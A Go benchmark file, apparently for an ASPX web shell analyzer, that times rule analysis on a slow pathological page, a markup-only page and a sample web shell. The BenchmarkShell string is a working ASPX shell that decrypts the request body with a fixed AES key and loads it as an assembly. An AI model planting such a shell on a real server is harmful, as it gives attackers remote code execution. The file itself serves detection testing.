package aspx

import (
	"fmt"
	"strings"
	"testing"
)

// BenchmarkHostile: a 4 MiB page built to make statement reasoning slow.
func BenchmarkHostile(b *testing.B) {
	r := loadTestRules(b)
	src := []byte("<%@ Page Language=\"C#\"%><% var x = Request[\"a\"]; " + strings.Repeat("f(x, g(x[", 1<<19/9*8) + " %>")
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		r.Analyze(Parse(src, ".aspx"))
	}
}

// BenchmarkShell: a typical web shell.
func BenchmarkShell(b *testing.B) {
	r := loadTestRules(b)
	src := []byte(`<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		r.Analyze(Parse(src, ".aspx"))
	}
}

// BenchmarkMarkupPage: a large page of server controls and no code, as
// most of a server's pages are: the page reading must cost little there.
func BenchmarkMarkupPage(b *testing.B) {
	r := loadTestRules(b)
	var sb strings.Builder
	sb.WriteString("<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.Management.ControlPanel.Reporting\" %>\r\n<!DOCTYPE html>\r\n<html><head runat=\"server\"><title>Report</title></head><body>\r\n")
	for i := 0; sb.Len() < 256<<10; i++ {
		fmt.Fprintf(&sb, "<div class=\"row%d\"><asp:Label ID=\"Label%d\" runat=\"server\" Text=\"<%%$ Strings:Caption%d %%>\" /></div>\r\n", i, i, i)
	}
	src := []byte(sb.String())
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		r.Analyze(Parse(src, ".aspx"))
	}
}
